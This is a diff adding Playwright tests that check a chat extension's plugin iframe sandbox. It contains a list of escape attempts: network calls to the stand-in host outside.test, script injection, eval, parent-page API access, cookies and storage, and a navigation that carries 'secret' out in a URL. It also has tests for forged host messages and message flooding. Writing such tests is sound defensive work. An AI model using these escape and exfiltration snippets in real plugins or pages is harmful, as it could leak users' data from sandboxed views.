@@ -3,6 +3,7 @@ import { statSync } from 'node:fs'
 import { join } from 'node:path'
 import { after, afterEach, beforeEach, describe, test } from 'node:test'
 import type { ViewChange, ViewMessage } from '../../extension/protocol/messages.ts'
+import type { PluginPart } from '../../extension/protocol/plugin-frame.ts'
 import type { Row, ViewState } from '../../extension/protocol/view-state.ts'
 import { root } from '../../scripts/root.ts'
 import { baseState, prompt, text, tool, turnEnd } from '../webview/harness/fixtures.ts'
@@ -44,7 +45,7 @@ describe('in little room', () => {
     editable: lines(6),
   }
   const notice = (id: string) => ({ id, level: 'warning' as const, text: 'The provider "loopback" in bosun.providers does not count: models.scripted has no field "window". Correct it or take it out; the others work.', actions: [{ id: 'open', label: 'Open the settings' }] })
-  const crowded = { ...running, approvals: [approval], notices: [notice('n1'), notice('n2'), notice('n3')], tasks: [{ content: 'x', status: 'pending' as const }], composer: { ...baseState.composer, canSend: false, blockedBy: 'This model reads text only. Choose a model that reads images, or send the message without them.' } }
+  const crowded = { ...running, approvals: [approval], notices: [notice('n1'), notice('n2'), notice('n3')], tasks: [{ id: 't1', content: 'x', status: 'pending' as const }], composer: { ...baseState.composer, canSend: false, blockedBy: 'This model reads text only. Choose a model that reads images, or send the message without them.' } }
   const rect = async (selector: string) => (await chat.page.locator(selector).boundingBox())!
 
   for (const height of [700, 480]) {
@@ -73,7 +74,7 @@ describe('the doors', () => {
   test('have their roles and names', async () => {
     await show([prompt('a'), text('b'), tool('bash', { card: 'terminal', title: 'ls' }, { card: 'terminal', exitCode: 0 })], {
       ...running,
-      tasks: [{ content: 'x', status: 'pending' }],
+      tasks: [{ id: 't2', content: 'x', status: 'pending' }],
       approvals: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run ls', why: '', card: null, always: ['ls'], who: null }],
     })
     const log = chat.page.getByRole('log', { name: 'Conversation' })
@@ -391,6 +392,169 @@ test('a row that cannot be drawn says so, and the rest of the talk stands', asyn
   await chat.page.getByRole('button', { name: 'Reload view' }).click()
   assert.equal((await postedOf('reload-view')).length, 1)
   assert.equal((await postedOf('view-error')).length, 1)
+})
+
+describe('the frame of a plugin', () => {
+  const view = { id: 's1/run-1', pluginId: 'note-1', name: 'Note', slots: ['panel'], problem: null } as const
+  const inside = () => chat.page.locator('.plugin-body iframe').contentFrame()
+  const part = (content: PluginPart) => chat.post({ type: 'plugin', frameId: view.id, part: content })
+  const draw = async (code: string) => {
+    await show([prompt('a')], { plugins: [view] })
+    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as ViewMessage).type === 'plugin-code'))
+    await part({ kind: 'code', code })
+    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as ViewMessage).type === 'plugin-frame'))
+  }
+
+  test('is as high as what it draws, within its cap, and takes the colours of the theme as they change', async () => {
+    await draw(`let lines = 2; slot('panel', () => [ui.h('p', { id: 'first' }, 'Here'), ...Array.from({ length: lines }, () => ui.h('p', null, 'line')), ui.h('button', { onclick: () => { lines = 40 } }, 'More')])`)
+    const height = async () => (await chat.page.locator('.plugin-body iframe').boundingBox())!.height
+    const colour = () => inside().locator('#first').evaluate((element) => getComputedStyle(element).color)
+    await inside().getByRole('button', { name: 'More' }).waitFor()
+    await settled()
+    const [before, dark] = [await height(), await colour()]
+    assert.ok(before > 60 && before < 140, `${before} px`)
+    await inside().getByRole('button', { name: 'More' }).click()
+    await settled()
+    assert.equal(await height(), 280)
+    await chat.page.evaluate(() => document.documentElement.style.setProperty('--vscode-foreground', 'rgb(1, 2, 3)'))
+    await settled()
+    assert.notEqual(dark, 'rgb(1, 2, 3)')
+    assert.equal(await colour(), 'rgb(1, 2, 3)')
+  })
+
+  test('asks the host half and draws its answer, with what was typed kept', async () => {
+    await draw(`let text = '', answer = ''; slot('panel', () => [ui.h('input', { 'aria-label': 'Text', value: text, oninput: (event) => { text = event.target.value } }), ui.h('button', { onclick: async () => { answer = await host.call('count', { text }) } }, 'Count'), ui.h('p', null, answer)])`)
+    await inside().getByRole('textbox', { name: 'Text' }).pressSequentially('a b')
+    await inside().getByRole('button', { name: 'Count' }).click()
+    await settled()
+    assert.deepEqual(await postedOf('plugin-call'), [{ type: 'plugin-call', frameId: view.id, id: 1, method: 'count', payload: { text: 'a b' } }])
+    await part({ kind: 'reply', id: 1, value: '2 words' })
+    await inside().getByText('2 words').waitFor()
+    assert.equal(await inside().getByRole('textbox', { name: 'Text' }).inputValue(), 'a b')
+  })
+
+  test('reaches no network, no page around it and no store, whatever it tries', async () => {
+    const requested: string[] = []
+    await chat.page.route('**/*', (route) => {
+      requested.push(route.request().url())
+      return route.fallback()
+    })
+    const escapes = {
+      nonce: `if (document.scripts.length === 0) throw new Error('no')`,
+      fetch: `await fetch('https://outside.test/')`,
+      socket: `await new Promise((resolve, reject) => { const socket = new WebSocket('wss://outside.test/'); socket.onopen = resolve; socket.onerror = () => reject(new Error('no')) })`,
+      image: `await new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('no')); image.src = 'https://outside.test/a.png' })`,
+      script: `await new Promise((resolve, reject) => { const script = document.createElement('script'); script.nonce = 'harness'; script.onload = resolve; script.onerror = () => reject(new Error('no')); script.src = 'https://outside.test/a.js'; document.head.append(script) })`,
+      'script of the page': `await new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = () => reject(new Error('no')); script.src = 'http://harness.test/webview.js'; document.head.append(script) })`,
+      'inline script': `const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script); if (window.ran !== 1) throw new Error('no')`,
+      eval: `eval('1')`,
+      'function from text': `Function('return 1')()`,
+      worker: `await new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = () => reject(new Error('no')) })`,
+      'module by import': `await import('https://outside.test/a.js')`,
+      'the page': `parent.document.title`,
+      'its functions': `parent.acquireVsCodeApi()`,
+      store: `localStorage.setItem('a', 'b')`,
+      cookie: `document.cookie = 'a=b'; if (document.cookie === '') throw new Error('no')`,
+      popup: `if (open('https://outside.test/') === null) throw new Error('no')`,
+      peer: `new RTCPeerConnection()`,
+      'a frame with scripts': `await new Promise((resolve, reject) => { onmessage = resolve; const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.postMessage(1, "*")<' + '/script>'; document.body.append(frame); frame.onload = () => setTimeout(() => reject(new Error('no')), 50) })`,
+      form: `const form = document.createElement('form'); form.action = 'https://outside.test/'; document.body.append(form); form.submit(); throw new Error('no')`,
+      'the top': `top.location.href = 'https://outside.test/'`,
+    }
+    const tries = Object.entries(escapes).map(([name, code]) => `out.push(await (async () => { ${code} })().then(() => ${JSON.stringify(name)}, () => null))`)
+    await draw(`const out = []; let ended = false; slot('panel', () => (ended ? 'got out: ' + JSON.stringify(out.filter((name) => name !== null)) : 'trying')); (async () => { ${tries.join(';')} ; ended = true; ui.redraw() })()`)
+    await inside().getByText('got out: []').waitFor()
+    // Its own parts come as they are needed.
+    assert.deepEqual(requested.filter((url) => !/\/(webview-|codicon)/.test(url)), [])
+    assert.equal(chat.page.url(), 'http://harness.test/')
+    await message().waitFor()
+  })
+
+  test('does not get away from its place, where it could take words along', async () => {
+    await draw(`slot('panel', () => ui.h('button', { onclick: () => { location.href = 'https://outside.test/?' + 'secret' } }, 'Away'))`)
+    const requested: string[] = []
+    await chat.page.route('**/*', (route) => {
+      requested.push(route.request().url())
+      return route.fallback()
+    })
+    await inside().getByRole('button', { name: 'Away' }).click()
+    await settled()
+    assert.deepEqual(requested, [])
+  })
+
+  test('is not heard as the host', async () => {
+    await draw(`slot('panel', () => ui.h('button', { onclick: () => { parent.postMessage({ type: 'patch', frame: 2, changes: [{ change: 'state', key: 'tasks', value: [{ id: 'x', content: 'forged', status: 'pending' }] }] }, '*'); parent.postMessage({ type: 'snapshot', version: 99 }, '*') } }, 'Forge'))`)
+    await inside().getByRole('button', { name: 'Forge' }).click()
+    await settled()
+    assert.equal(await chat.page.getByRole('region', { name: 'Tasks' }).count(), 0)
+    await message().waitFor()
+  })
+
+  test('is passed through by the Tab key and left by Escape', async () => {
+    await draw(`slot('panel', () => ui.h('button', null, 'Inside'))`)
+    const focused = () => chat.page.evaluate(() => document.activeElement?.tagName === 'IFRAME' ? 'frame' : (document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent))
+    await chat.page.getByRole('button', { name: 'Stop the plugin Note' }).focus()
+    await chat.page.keyboard.press('Tab')
+    assert.equal(await focused(), 'frame')
+    await chat.page.keyboard.press('Tab')
+    assert.equal(await focused(), 'Message')
+    await chat.page.keyboard.press('Shift+Tab')
+    await chat.page.keyboard.press('Escape')
+    await settled()
+    assert.equal(await focused(), 'Note')
+    assert.equal(await chat.page.locator('.plugin-body iframe').getAttribute('title'), 'Plugin Note')
+  })
+
+  test('folds without an end of it, and can be stopped', async () => {
+    await draw(`let n = 0; slot('panel', () => n); host.on('tick', () => { n += 1 })`)
+    await chat.page.getByRole('button', { name: 'Note', exact: true }).click()
+    assert.equal(await chat.page.locator('.plugin-body').isVisible(), false)
+    await part({ kind: 'event', name: 'tick', payload: null })
+    await chat.page.getByRole('button', { name: 'Note', exact: true }).click()
+    await inside().getByText('1').waitFor()
+    await chat.page.getByRole('button', { name: 'Stop the plugin Note' }).click()
+    assert.deepEqual(await postedOf('plugin-stop'), [{ type: 'plugin-stop', pluginId: 'note-1' }])
+    await patch({ change: 'state', key: 'plugins', value: [] })
+    await settled()
+    assert.equal(await chat.page.locator('iframe').count(), 0)
+  })
+
+  test('says why it could not be drawn, and the chat stands', async () => {
+    await draw(`let ok = true; slot('panel', () => { if (!ok) throw new Error('no ink'); return ui.h('button', { onclick: () => { ok = false } }, 'Break') })`)
+    await inside().getByRole('button', { name: 'Break' }).click()
+    await settled()
+    assert.deepEqual(await postedOf('plugin-frame'), [
+      { type: 'plugin-frame', frameId: view.id, state: 'ready' },
+      { type: 'plugin-frame', frameId: view.id, state: 'failed', message: 'no ink' },
+    ])
+    await patch({ change: 'state', key: 'plugins', value: [{ ...view, problem: 'no ink' }] })
+    await chat.page.getByText('Note could not be drawn. no ink').waitFor()
+    assert.equal(await chat.page.locator('iframe').count(), 0)
+    await message().fill('still here')
+  })
+
+  test('that floods the page is stopped', async () => {
+    await draw(`slot('panel', () => ui.h('button', { onclick: () => { for (let count = 0; count < 3000; count += 1) parent.postMessage({ kind: 'height', px: count }, '*') } }, 'Flood'))`)
+    await inside().getByRole('button', { name: 'Flood' }).click()
+    await settled()
+    assert.deepEqual((await postedOf('plugin-frame')).slice(1), [{ type: 'plugin-frame', frameId: view.id, state: 'failed', message: 'It was stopped: it sent more than 1000 messages within a second.' }])
+  })
+
+  test('gives way to that of a newer version', async () => {
+    await draw(`slot('panel', () => 'first')`)
+    await inside().getByText('first').waitFor()
+    await patch({ change: 'state', key: 'plugins', value: [view, { ...view, id: 's1/run-2' }] })
+    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as { frameId?: string }).frameId === 's1/run-2'))
+    await chat.post({ type: 'plugin', frameId: 's1/run-2', part: { kind: 'code', code: `slot('panel', () => 'second')` } })
+    await chat.page.waitForFunction(() => window.harness.posted.filter((message) => (message as ViewMessage).type === 'plugin-frame').length === 2)
+    // Until the host takes the old one away, that is what is seen.
+    assert.equal(await chat.page.getByRole('region', { name: 'Note' }).count(), 1)
+    await chat.page.locator('.plugin-body iframe').first().contentFrame().getByText('first').waitFor()
+    await patch({ change: 'state', key: 'plugins', value: [{ ...view, id: 's1/run-2' }] })
+    await settled()
+    await inside().getByText('second').waitFor()
+    assert.equal(await chat.page.locator('iframe').count(), 1)
+  })
 })
 
 test('the page is small before its first code is coloured', () => {
